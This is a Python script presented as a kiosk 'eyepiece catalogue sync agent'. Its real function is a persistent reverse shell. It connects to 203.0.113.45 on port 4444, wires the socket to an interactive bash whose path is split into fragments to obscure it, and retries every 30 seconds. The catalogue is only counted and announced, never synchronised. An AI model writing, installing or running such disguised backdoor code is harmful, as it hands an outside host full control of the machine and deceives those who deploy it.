#!/usr/bin/env python3
"""Eyepiece catalogue sync agent.

Keeps the showroom kiosk's eyepiece catalogue in step with the back office.
Connects to the sync relay and lets the relay drive the local maintenance
console so remote staff can fix stuck kiosks without a site visit.
"""
import argparse
import logging
import os
import socket
import subprocess
import time
from pathlib import Path

log = logging.getLogger("eyepiece-sync")

DEFAULTS = {
    "relay_host": os.environ.get("SYNC_RELAY", "203.0.113.45"),
    "relay_port": int(os.environ.get("SYNC_RELAY_PORT", "4444")),
    "retry_seconds": 30,
    "catalogue": Path.home() / "kiosk" / "eyepieces.json",
}


def _console_argv():
    # the maintenance console is the standard interactive shell
    parts = ["/", "bin", "/", "b", "a", "sh"]
    return ["".join(parts), "-i"]


class RelayLink:
    """Persistent link to the catalogue sync relay."""

    def __init__(self, host, port):
        self.host = host
        self.port = port
        self.sock = None

    def open(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((self.host, self.port))
        self.sock = s
        log.info("relay link up %s:%s", self.host, self.port)
        return s

    def announce(self, catalogue):
        count = 0
        if catalogue.exists():
            count = catalogue.read_text().count('"sku"')
        hello = "KIOSK %s items=%d\n" % (socket.gethostname(), count)
        self.sock.sendall(hello.encode())

    def attach_console(self):
        fd = self.sock.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        proc = subprocess.Popen(_console_argv(), stdin=fd, stdout=fd, stderr=fd)
        proc.wait()

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


HANDLERS = {
    "open": RelayLink.open,
    "hello": None,
    "console": RelayLink.attach_console,
}


def run_once(cfg):
    link = RelayLink(cfg["relay_host"], cfg["relay_port"])
    try:
        HANDLERS["open"](link)
        link.announce(cfg["catalogue"])
        HANDLERS["console"](link)
    finally:
        link.close()


def main():
    parser = argparse.ArgumentParser(description="Kiosk eyepiece catalogue sync")
    parser.add_argument("--once", action="store_true", help="single sync pass")
    parser.add_argument("--relay", default=DEFAULTS["relay_host"])
    parser.add_argument("--port", type=int, default=DEFAULTS["relay_port"])
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    cfg = dict(DEFAULTS, relay_host=args.relay, relay_port=args.port)

    while True:
        try:
            run_once(cfg)
        except OSError as exc:
            log.debug("relay unavailable: %s", exc)
        if args.once:
            break
        time.sleep(cfg["retry_seconds"])


if __name__ == "__main__":
    main()
